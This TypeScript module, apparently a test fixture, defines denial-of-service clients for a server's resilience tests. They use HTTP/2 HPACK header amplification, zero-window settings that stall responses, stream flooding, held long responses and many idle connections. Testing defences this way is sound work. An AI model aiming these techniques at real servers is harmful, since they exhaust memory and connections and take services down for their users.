/** What clients with bad intentions do to a server, each by itself, against a running one. */
import { setTimeout as sleep } from 'node:timers/promises'
import { RawHttp1 } from '../support/raw-http1.ts'
import { FLAG, FRAME, frame, headerBlock, RawHttp2, requestFields } from '../support/raw-http2.ts'

export interface Attack {
  readonly name: string
  /** Undefined for clients that have not shown who they are. */
  readonly token: string | undefined
  /** Holds what it can get until it is disposed of. */
  readonly run: (port: number, size: Size) => Promise<Disposable>
}

export interface Size {
  readonly connections: number
  readonly streams: number
  /** A response of the server that is long. */
  readonly longPath: string
}

export const NO_RIGHTS = 'tok-none'
export const READER = 'tok-reader'

const LIST = '/apis/events.k8s.io/v1/namespaces/a/events'
const WATCH = `${LIST}?watch=1&resourceVersion=0`
/** SETTINGS_INITIAL_WINDOW_SIZE of 0: responses cannot be sent. */
const NO_WINDOW = frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))
/** The newest entry of the dynamic table of HPACK. */
const NEWEST = Buffer.from([0x80 | 62])
const ENTRY_BYTES = 4000
/** As often as fits into the headers that a request may have. */
const REFERENCES = 31
/** Below what is kept of a request that waits. */
const FEW_REFERENCES = 1
const PAUSE_MS = 20

export const ATTACKS: readonly Attack[] = [
  ...[undefined, NO_RIGHTS].flatMap((token) => [
    {
      name: 'unread errors, expanded Accept',
      token,
      run: streams({ token, path: LIST, isShut: true, references: REFERENCES }),
    },
    {
      name: 'unread errors, longest Accept',
      token,
      run: streams({ token, path: LIST, isShut: true, references: FEW_REFERENCES }),
    },
    {
      name: 'unread errors, other header',
      token,
      run: streams({ token, path: LIST, isShut: true, references: 25, header: 'x-other' }),
    },
  ]),
  {
    name: 'unread lists, then many that wait',
    token: READER,
    run: streams({ token: READER, path: LIST, isShut: true, references: 25, header: 'x-other' }),
  },
  {
    name: 'unread metrics',
    token: READER,
    run: streams({ token: READER, path: '/metrics', isShut: true, references: 0 }),
  },
  {
    name: 'watches, expanded Accept',
    token: READER,
    run: streams({ token: READER, path: WATCH, isShut: false, references: 30 }),
  },
  {
    name: 'watches, other header',
    token: READER,
    run: streams({ token: READER, path: WATCH, isShut: false, references: 25, header: 'x-other' }),
  },
  { name: 'long responses, HTTP/1.1', token: READER, run: oneResponseEach },
  { name: 'silent connections', token: undefined, run: silent },
]

interface Streams {
  readonly token: string | undefined
  readonly path: string
  readonly isShut: boolean
  readonly references: number
  readonly header?: string
}

/** As many requests on each connection as it may have, with headers that are short only on the wire. */
function streams(options: Streams): Attack['run'] {
  const { token, path, isShut, references, header = 'accept' } = options
  const plain = headerBlock({
    ...requestFields('GET', path),
    ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
    ...(header === 'accept' ? {} : { accept: 'application/json' }),
  })
  const entry = indexed(header, 'v'.repeat(ENTRY_BYTES))
  const again = Buffer.concat(Array.from({ length: Math.max(references - 1, 0) }, () => NEWEST))
  const request = (stream: number): Buffer => {
    const first = references === 0 ? Buffer.alloc(0) : stream === 1 ? entry : NEWEST
    const block = Buffer.concat([plain, first, again])
    return frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, block)
  }
  return async (port, size) => {
    const clients: RawHttp2[] = []
    for (let index = 0; index < size.connections; index++) {
      const client = await RawHttp2.open(port)
      if (isShut) client.send(NO_WINDOW)
      await client.settled().catch(() => {})
      clients.push(client)
      client.send(...Array.from({ length: size.streams }, (_, n) => request(1 + 2 * n)))
      await sleep(PAUSE_MS)
    }
    return held(clients)
  }
}

/** One long response on each of many connections, which then stay open. */
async function oneResponseEach(port: number, size: Size): Promise<Disposable> {
  const clients: RawHttp1[] = []
  for (let index = 0; index < size.connections * 5; index++) {
    const client = await RawHttp1.open(port)
    clients.push(client)
    const headers = { authorization: `Bearer ${READER}` }
    await client.request({ path: size.longPath, headers })
  }
  return held(clients)
}

/** Connections on which nothing is asked for. */
async function silent(port: number, size: Size): Promise<Disposable> {
  const clients: RawHttp2[] = []
  for (let index = 0; index < size.connections * 5; index++) clients.push(await RawHttp2.open(port))
  return held(clients)
}

function held(clients: readonly { close(): void }[]): Disposable {
  return {
    [Symbol.dispose]: () => {
      for (const client of clients) client.close()
    },
  }
}

/** A field that goes into the dynamic table. */
function indexed(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x40]), text(name), text(value)])
}

function text(value: string): Buffer {
  const bytes = Buffer.from(value)
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes])
  const rest = bytes.length - 127
  return Buffer.concat([Buffer.from([127, (rest % 128) | 0x80, Math.floor(rest / 128)]), bytes])
}
